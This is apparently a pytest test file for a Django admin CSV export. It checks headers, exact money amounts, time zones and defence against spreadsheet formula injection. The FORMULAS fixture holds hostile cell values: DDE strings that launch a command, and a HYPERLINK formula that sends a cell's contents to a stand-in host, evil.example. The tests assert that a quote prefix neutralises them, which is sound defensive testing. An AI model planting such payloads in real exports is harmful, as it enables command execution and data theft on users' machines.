"""The CSV export action: a header row, then the selected rows' columns, money exact, and
no cell a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import datetime as dt
import io
from decimal import Decimal

import pytest
from django.contrib.admin import site
from django.urls import reverse

from projects.models import ProjectExpense
from support.models import Ticket
from surveys.models import SurveyResponse
from synapse.admin_tools import csv_cell, export_rows
from tests.factories import (
    EmployeeFactory,
    ProjectExpenseFactory,
    SurveyResponseFactory,
    TicketFactory,
    TimeEntryFactory,
    UserFactory,
)
from timesheets.models import Employee, TimeEntry
from timesheets.services import time_entries_recost


def _export(admin_client, model, pks) -> list[list[str]]:
    """Run the export action on ``pks`` from ``model``'s changelist; return the CSV rows."""
    url = reverse(f"admin:{model._meta.app_label}_{model._meta.model_name}_changelist")
    response = admin_client.post(
        url, {"action": "export_as_csv", "_selected_action": [str(pk) for pk in pks]}
    )
    assert response.status_code == 200
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    assert response["Content-Disposition"].startswith("attachment; filename=")
    body = b"".join(response.streaming_content).decode()
    return list(csv.reader(io.StringIO(body)))


def test_export_writes_header_and_exact_money(admin_client, db):
    expense = ProjectExpenseFactory(
        expense_id="X-1",
        project__code="PRJ-7",
        project__name="ERP rollout",
        date=dt.date(2025, 3, 4),
        category="licences",
        amount=Decimal("1234.50"),
    )
    ProjectExpenseFactory(expense_id="X-2", amount=Decimal("99.99"))  # not selected

    rows = _export(admin_client, ProjectExpense, [expense.pk])

    assert rows == [
        ["expense id", "project", "date", "category", "amount"],
        ["X-1", "PRJ-7 ERP rollout", "2025-03-04", "licences", "1234.50"],
    ]


def test_export_of_time_entries_carries_derived_cost_and_bill_value(admin_client, db):
    employee = EmployeeFactory(rates=(Decimal("50.00"), Decimal("140.00")))
    entry = TimeEntryFactory(
        entry_id="T-1", employee=employee, date=dt.date(2025, 2, 3), hours=Decimal("7.25")
    )
    time_entries_recost(TimeEntry.objects.filter(pk=entry.pk))

    rows = _export(admin_client, TimeEntry, [entry.pk])

    header, row = rows
    values = dict(zip(header, row, strict=True))
    # 7.25 h × 50.00 = 362.50 cost; 7.25 h × 140.00 = 1015.00 billable value.
    assert values["cost"] == "362.50"
    assert values["bill value"] == "1015.00"
    assert values["hours"] == "7.25"
    assert values["billable"] == "true"
    assert values["activity"] == "delivery"
    assert values["project"] == ""


def test_export_uses_display_methods_and_firm_local_datetimes(admin_client, db, settings):
    settings.TIME_ZONE = "Europe/Berlin"
    ada = EmployeeFactory(user=UserFactory(username="ada"), full_name="Ada Lovelace")
    ticket = TicketFactory(
        ref="TCK-1", opened_at=dt.datetime(2025, 2, 3, 9, 0, tzinfo=dt.UTC), assignee=ada
    )

    employee_rows = _export(admin_client, Employee, [ada.pk])
    ticket_rows = _export(admin_client, Ticket, [ticket.pk])

    employee = dict(zip(*employee_rows, strict=True))
    assert employee["username"] == "ada"
    assert employee["role"] == "staff"
    assert employee["hours per day"] == "8.00"
    assert employee["manager"] == ""
    opened = dict(zip(*ticket_rows, strict=True))["opened at"]
    assert opened == "2025-02-03T10:00:00+01:00"


def test_export_of_every_row_matching_a_search(admin_client, db):
    for n in range(3):
        ProjectExpenseFactory(expense_id=f"HW-{n}", category="hardware", amount=Decimal("10.01"))
    ProjectExpenseFactory(expense_id="TR-1", category="travel")
    url = reverse("admin:projects_projectexpense_changelist")

    response = admin_client.post(
        f"{url}?q=hardware",
        {"action": "export_as_csv", "select_across": "1", "_selected_action": ["0"]},
    )

    rows = list(csv.reader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert sorted(row[0] for row in rows[1:]) == ["HW-0", "HW-1", "HW-2"]
    assert sum(Decimal(row[4]) for row in rows[1:]) == Decimal("30.03")


#: Text a spreadsheet would run as a formula, as people typed it into Synapse.
FORMULAS = {
    "subject": "=cmd|' /C calc'!A0",
    "category": "-2+3+cmd|' /C calc'!A0",
    "comment": '=HYPERLINK("http://evil.example/?"&A1,"Details")',
    "note": "@SUM(A1:A9)",
}


def test_export_prefixes_text_a_spreadsheet_would_run_as_a_formula(admin_client, db):
    ticket = TicketFactory(ref="TCK-1", subject=FORMULAS["subject"])
    expense = ProjectExpenseFactory(
        expense_id="X-1", category=FORMULAS["category"], amount=Decimal("5.00")
    )

    subject = dict(zip(*_export(admin_client, Ticket, [ticket.pk]), strict=True))["subject"]
    category = dict(zip(*_export(admin_client, ProjectExpense, [expense.pk]), strict=True))[
        "category"
    ]

    assert subject == "'=cmd|' /C calc'!A0"
    assert category == "'-2+3+cmd|' /C calc'!A0"


def test_export_rows_prefix_survey_comments_and_time_entry_notes(db):
    response = SurveyResponseFactory(response_id="S-1", comment=FORMULAS["comment"])
    entry = TimeEntryFactory(entry_id="T-1", note=FORMULAS["note"])

    survey_rows = list(
        export_rows(site._registry[SurveyResponse], ["response_id", "comment"], [response])
    )
    entry_rows = list(export_rows(site._registry[TimeEntry], ["entry_id", "note"], [entry]))

    assert survey_rows[1] == ["S-1", "'" + FORMULAS["comment"]]
    assert entry_rows[1] == ["T-1", "'@SUM(A1:A9)"]


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ("=1+1", "'=1+1"),
        ("+1+1", "'+1+1"),
        ("-1+1", "'-1+1"),
        ("@A1", "'@A1"),
        ("\tinvisible", "'\tinvisible"),
        ("\r=1+1", "'\r=1+1"),
        ("+31 20 555 0100", "'+31 20 555 0100"),
        ("-1e5", "'-1e5"),
        # Plain numbers stay numbers a spreadsheet adds up (money, hours, scores).
        (Decimal("-5.00"), "-5.00"),
        ("-5.00", "-5.00"),
        ("+3", "+3"),
        ("-.5", "-.5"),
        (-7, "-7"),
        # Text that only contains a formula character later is left alone.
        ("a=b", "a=b"),
        (" =1+1", " =1+1"),
        ("", ""),
    ],
)
def test_csv_cell_prefixes_formulas_and_keeps_plain_numbers(value, cell):
    assert csv_cell(value) == cell
